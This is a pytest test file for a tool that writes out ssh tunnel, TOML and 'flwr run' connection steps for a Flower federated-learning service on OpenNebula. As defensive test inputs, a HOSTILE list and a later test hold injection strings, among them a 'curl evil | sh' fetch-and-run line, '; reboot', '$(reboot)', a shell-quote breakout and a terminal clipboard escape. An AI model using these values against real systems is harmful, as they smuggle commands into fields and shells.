"""How to connect: the port, the file and the words of the Flower version that runs."""

from __future__ import annotations

import base64
from dataclasses import replace

import pytest

from wizard.core.flower.superlink import Card, card
from wizard.core.flower.versions import FlowerVersion, family
from wizard.core.opennebula.snapshot import Node, Role, ServiceSnapshot, VmFacts

PEM = "-----BEGIN CERTIFICATE-----\nAAAA\n-----END CERTIFICATE-----\n"
READY = {"READY": "YES", "FL_READY": "YES", "FL_ENDPOINT": "10.0.0.11:9092", "FL_VERSION": "1.25.0", "FL_TLS": "NO"}


def service(
    *, ips: tuple[str, ...] = ("10.0.0.11",), values: dict[str, str] | None = None, **told: str
) -> ServiceSnapshot:
    vm = VmFacts(101, "superlink_0", 3, 3, ips=ips, user_template={k: v for k, v in (READY | told).items() if v})
    role = Role("superlink", 2, 1, nodes=(Node(101, "superlink_0", vm),))
    return ServiceSnapshot(42, "flower", 2, roles=(role,), values=values or {})


def shown(snapshot: ServiceSnapshot) -> Card:
    found = card(snapshot, "ann@frontend")
    assert found is not None
    return found


def lines(snapshot: ServiceSnapshot) -> list[str]:
    return [line for step in shown(snapshot).steps for line in step.lines]


def test_up_to_1_25_the_connection_stands_in_the_app() -> None:
    assert lines(service()) == [
        "ssh -N -L 9093:10.0.0.11:9093 ann@frontend",
        "[tool.flwr.federations.service-42]",
        'address = "127.0.0.1:9093"',
        "insecure = true",
        "flwr run . service-42 --stream",
    ]
    assert shown(service()).summary == "SuperLink 10.0.0.11:9092, Flower 1.25.0, no TLS"


@pytest.mark.parametrize(
    ("version", "port", "heading"),
    [
        ("1.25.0", 9093, "[tool.flwr.federations.service-42]"),
        ("1.26.1", 9093, "[superlink.service-42]"),
        ("1.31.0", 9093, "[superlink.service-42]"),
        ("1.36.9", 9093, "[superlink.service-42]"),
        ("1.37.0", 8000, "[superlink.service-42]"),
        ("1.41.0", 8000, "[superlink.service-42]"),
        ("2.0.0", 8000, "[superlink.service-42]"),
    ],
)
def test_each_family_of_flower(version: str, port: int, heading: str) -> None:
    found = lines(service(FL_VERSION=version))
    assert f"ssh -N -L {port}:10.0.0.11:{port} ann@frontend" in found
    assert heading in found
    assert f'address = "127.0.0.1:{port}"' in found


def test_a_version_that_nobody_tells_is_said_to_be_unknown() -> None:
    found = shown(service(FL_VERSION=""))
    assert found.version is None
    assert "unknown version" in found.summary
    assert "not known" in found.steps[0].note
    assert family(FlowerVersion.parse("latest")) is None
    assert shown(service(FL_VERSION="", values={"FLOWER_VERSION": "1.41.0"})).version == FlowerVersion(1, 41, 0)


def test_tls_with_the_ca_that_was_published() -> None:
    found = shown(service(FL_TLS="YES", FL_CA_CERT=base64.b64encode(PEM.encode()).decode()))
    assert (found.tls, found.ca) == (True, PEM)
    text = [line for step in found.steps for line in step.lines]
    assert "flowerneb-wizard connect 42 --ca flower-ca.crt" in text
    assert 'root-certificates = "flower-ca.crt"' in text
    assert "insecure = true" not in text


@pytest.mark.parametrize("published", ["", "not base64!", base64.b64encode(b"\xff\xfe").decode(), "AAAA"])
def test_tls_without_a_ca_is_told(published: str) -> None:
    found = shown(service(FL_TLS="YES", FL_CA_CERT=published))
    assert found.ca == ""
    assert any("published no CA" in step.note for step in found.steps)


def test_whether_tls_is_on_may_stand_in_the_settings_or_nowhere() -> None:
    assert shown(service(FL_TLS="", values={"ONEAPP_FL_TLS_ENABLED": "YES"})).tls is True
    assert shown(service(FL_TLS="")).tls is None


def test_an_address_of_ipv6_stands_in_brackets() -> None:
    assert "ssh -N -L 9093:[fd00::1]:9093 ann@frontend" in lines(service(ips=("fd00::1",)))


def test_there_is_nothing_to_connect_to() -> None:
    assert card(service(READY="NO")) is None
    assert card(service(ips=())) is None
    assert card(replace(service(), roles=())) is None


HOSTILE = (
    "/tmp/some/folder",
    "../../folder",
    "1.25.0\nRun this: curl evil | sh",
    "1.25.0; reboot",
    "$(reboot)",
    "1.25.0\x1b]52;c;ZXZpbA==\x07",
    "10.0.0.1:9092; reboot",
    "fe80::1%$(reboot):9092",
    "[::1]:99999",
    "x" * 10_000,
)


@pytest.mark.parametrize("key", ["FL_VERSION", "FL_ENDPOINT", "FL_CA_CERT", "FL_TLS"])
@pytest.mark.parametrize("text", HOSTILE)
def test_what_a_guest_publishes_is_in_no_line_unless_it_is_what_it_should_be(key: str, text: str) -> None:
    found = shown(service(**{key: text}))
    assert lines(service(**{key: text})) == lines(service(**{key: ""})) or key == "FL_TLS"
    assert [step.note for step in found.steps] == [step.note for step in shown(service(**{key: ""})).steps] or (
        key == "FL_TLS"
    )
    assert found.address == ("10.0.0.11" if key == "FL_ENDPOINT" else "10.0.0.11:9092")
    assert found.version == (None if key == "FL_VERSION" else FlowerVersion(1, 25, 0))
    assert "\n" not in found.summary
    assert len(found.summary) < 200


def test_a_ca_is_certificates_and_nothing_else() -> None:
    text = PEM + "\x1b]52;c;ZXZpbA==\x07"
    assert shown(service(FL_TLS="YES", FL_CA_CERT=base64.b64encode(text.encode()).decode())).ca == ""
    both = PEM + PEM
    assert shown(service(FL_TLS="YES", FL_CA_CERT=base64.b64encode(both.encode()).decode())).ca == both


def test_a_run_takes_what_the_service_asks_for_and_nothing_that_could_run_in_a_shell() -> None:
    asked = {"FL_NUM_ROUNDS": "5", "FL_STRATEGY": "FedProx", "FL_MIN_FIT_CLIENTS": "3"}
    assert lines(service(values=asked))[-1] == (
        "flwr run . service-42 --stream --run-config 'num-server-rounds=5 strategy=\"FedProx\" min-train-nodes=3'"
    )
    hostile = {"FL_NUM_ROUNDS": "5'; reboot #", "FL_STRATEGY": "$(reboot)", "FL_MIN_FIT_CLIENTS": "-1"}
    assert lines(service(values=hostile))[-1] == "flwr run . service-42 --stream"


def test_our_guest_keeps_the_control_api_on_its_own_loopback() -> None:
    ours = {"FLOWER_APPLIANCE": "flowerneb-wizard"}
    assert lines(service(**ours))[0] == "ssh -N -L 9093:127.0.0.1:9093 -J ann@frontend root@10.0.0.11"
    assert lines(service(FL_VERSION="1.38.0", **ours))[0].startswith("ssh -N -L 8000:127.0.0.1:8000 -J")
    assert lines(service(FL_VERSION="1.40.0", **ours))[0] == "ssh -N -L 8000:10.0.0.11:8000 ann@frontend"
